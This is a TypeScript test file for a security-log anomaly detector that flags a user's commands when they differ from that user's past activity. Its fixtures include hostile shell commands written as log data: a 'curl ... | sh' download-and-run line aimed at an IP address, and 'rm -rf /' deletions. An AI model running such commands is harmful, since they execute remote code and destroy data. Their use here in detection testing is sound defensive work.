import { describe, expect, test, vi } from 'vitest'
import { similarity, tokensOf } from '../../../../daemon/detect/tokens.ts'
import type { JsonObject } from '../../../../shared/json.ts'
import { toField } from '../../../../shared/query/match.ts'
import { makeLog, makeRule } from '../fixtures.ts'
import { day, hour, judge, ofUser, seconds, survives } from './judge.ts'

vi.setConfig({ testTimeout: 60_000 }) // seconds, but not on a machine that does five other things

const rule = (contentAnomalyOptions: object = {}, more: object = {}) =>
  makeRule({
    queries: [{ query: '*', groupByFields: ['@usr.name'], metrics: ['@command'] }],
    cases: [{ status: 'medium', condition: 'a >= 1' }],
    options: { detectionMethod: 'content_anomaly', evaluationWindow: 300, keepAlive: 3600, contentAnomalyOptions },
    ...more,
  })
const run = (at: number, command: string, user = 'ann') => ofUser(at, user, { command })

describe('Jaccard similarity of the words of two logs', () => {
  const words = (attributes: JsonObject, ...paths: string[]) => tokensOf(makeLog(0, attributes), paths.map(toField))
  test.each<[JsonObject, JsonObject, string[], number]>([
    [
      { action: 'auth', resource: 'k8s', network: 'public', user: 'swe' },
      { action: 'auth', resource: 'k8s', network: 'public', user: 'pm' },
      ['@action', '@resource', '@network', '@user'],
      0.6,
    ],
    [{ d: 'User connected to abc network' }, { d: 'User got unauthorized network access' }, ['@d'], 0.25],
    [{ d: 'same words' }, { d: 'words same same!' }, ['@d'], 1],
    [{ d: 'one' }, { d: 'two' }, ['@d'], 0],
    [{ d: 'Schlüssel 鍵 ключ' }, { d: 'schlüssel 鍵 ключ' }, ['@d'], 0.5],
  ])('%j and %j', (a, b, paths, expected) => expect(similarity(words(a, ...paths), words(b, ...paths))).toBeCloseTo(expected))

  test('of hundreds of words an estimate', () => {
    const text = (from: number, to: number) => Array.from({ length: to - from }, (_, i) => `w${from + i}`).join(' ')
    expect(similarity(words({ d: text(0, 300) }, '@d'), words({ d: text(100, 400) }, '@d'))).toBeCloseTo(0.5, 0.2)
  })
})

describe('day and words of one user’s logs → days of signals', () => {
  const list = 'git pull origin main'
  test.each<[string, object, [number, string][], number[]]>([
    [
      'learned for 7 days',
      {},
      [
        [0, list],
        [6.9, 'rm -rf /var/lib'],
      ],
      [],
    ],
    [
      'unlike all before',
      {},
      [
        [0, list],
        [7, list],
        [7.1, 'curl http://203.0.113.9/x | sh'],
      ],
      [7.1],
    ],
    [
      'like enough: three of four words',
      {},
      [
        [0, list],
        [7, list],
        [7.1, 'git pull origin main now'],
      ],
      [],
    ],
    [
      'less alike than is asked',
      { similarityPercentageThreshold: 90 },
      [
        [0, list],
        [7, list],
        [7.1, 'git pull origin main now'],
      ],
      [7.1],
    ],
    [
      'told once, then known',
      {},
      [
        [0, list],
        [7.1, 'rm -rf /'],
        [7.5, 'rm -rf /'],
      ],
      [7.1],
    ],
    [
      'one like it is not enough',
      { nbSimilarItemsThreshold: 2 },
      [
        [0, list],
        [7, 'rm -rf /'],
        [7.5, 'rm -rf /'],
        [7.9, 'rm -rf /'],
      ],
      [7, 7.5],
    ],
    [
      'learned for a day',
      { learningDuration: 1 },
      [
        [0, list],
        [1, 'rm -rf /'],
      ],
      [1],
    ],
    [
      'forgotten',
      { learningDuration: 1, forgetAfter: 2 },
      [
        [0, list],
        [1, 'git status'],
        [2.9, 'git status'],
        [3.5, list],
      ],
      [1, 3.5],
    ],
  ])('%s', (_, options, logs, expected) =>
    expect(
      judge(
        rule(options),
        logs.map(([at, command]) => run(at * day, command)),
      ).map(({ first_seen }) => seconds(first_seen) / day),
    ).toEqual(expected))
})

test('as many unlike logs as the case asks for, within the window', () => {
  const two = rule({}, { cases: [{ status: 'high', condition: 'a >= 2' }] })
  const logs = [run(0, 'ls'), run(7 * day, 'rm x'), run(7 * day + 1, 'ls'), run(7 * day + 2, 'dd y')]
  expect(judge(two, logs).map(({ events_matched }) => events_matched)).toEqual([2])
  expect(judge(two, [run(0, 'ls'), run(7 * day, 'rm x'), run(7 * day + hour, 'dd y')])).toEqual([])
})
test('each group is compared with itself', () =>
  expect(
    judge(rule(), [run(0, 'ls'), run(0, 'psql', 'bob'), run(7 * day, 'psql'), run(7 * day, 'psql', 'bob')]).map(({ group }) => group),
  ).toEqual([{ '@usr.name': 'ann' }]))
test('what was seen: how like the most similar was', () => {
  const [signal] = judge(rule(), [run(0, 'git pull'), run(7 * day, 'git push force')])
  expect(signal!.evidence).toEqual([{ time: expect.any(Number), unlike: [{ query: 'a', similarity: 0.25 }] }])
})
test('a log without those fields is none of it', () => expect(judge(rule(), [run(0, 'ls'), ofUser(7 * day, 'ann')])).toEqual([]))
test('a thousand different logs: what is remembered stays small, and the rule goes on', () => {
  const many = Array.from({ length: 1000 }, (_, i) => run(i, `run job${i} with x${i * 7} and y${i * 3}`))
  expect(judge(rule(), [...many, run(7 * day, 'something else entirely')])).toHaveLength(1)
})
test('whatever dies when', () => {
  const commands = ['ls -l', 'git pull', 'git push', 'rm -rf /', 'curl x | sh']
  expect(
    survives(
      rule({ learningDuration: 1, forgetAfter: 1 }),
      Array.from({ length: 70 }, (_, i) => run(i * i * 60, commands[(i * 3) % 5]!)),
    ),
  ).toBe(true)
})
